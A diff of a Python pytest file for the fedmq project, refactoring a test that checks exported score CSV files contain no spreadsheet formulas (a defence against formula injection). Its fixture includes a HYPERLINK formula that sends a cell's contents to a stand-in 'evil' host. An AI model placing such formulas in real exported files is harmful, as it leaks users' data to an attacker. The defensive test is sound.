@@ -12,9 +12,10 @@ import pytest
 
 import fedmq
 from fedmq.cli import evaluate
-from fedmq.cli.scores import _write_scores
+from fedmq.cli.score_output import ScoreRows, write_file
 from fedmq.evaluation.evaluate import ScoredRows
 from fedmq.party.atomic_file import csv_for_people
+from fedmq.party.configuration.data import DataSection
 
 FORMULAS = (
     '=HYPERLINK("http://evil/?"&A1)',
@@ -57,7 +58,8 @@ def test_no_cell_of_a_file_of_scores_is_a_formula(tmp_path: Path) -> None:
         "players": ["bank", FORMULAS[0], "bias"],
         "contributions": [[[0.1, -0.2, 0.3]]] * len(ids),
     }
-    _write_scores(tmp_path / "scores.csv", FORMULAS[1], ids, result, strict=False)
+    scored = ScoreRows.of(FORMULAS[1], ids, result, strict=False)
+    write_file(tmp_path / "scores.csv", scored, DataSection(path=tmp_path, id="id"))
     written = cells((tmp_path / "scores.csv").read_text(encoding="utf-8"))
     assert not [cell for cell in written if is_formula(cell)]
     assert "-0.2" in written
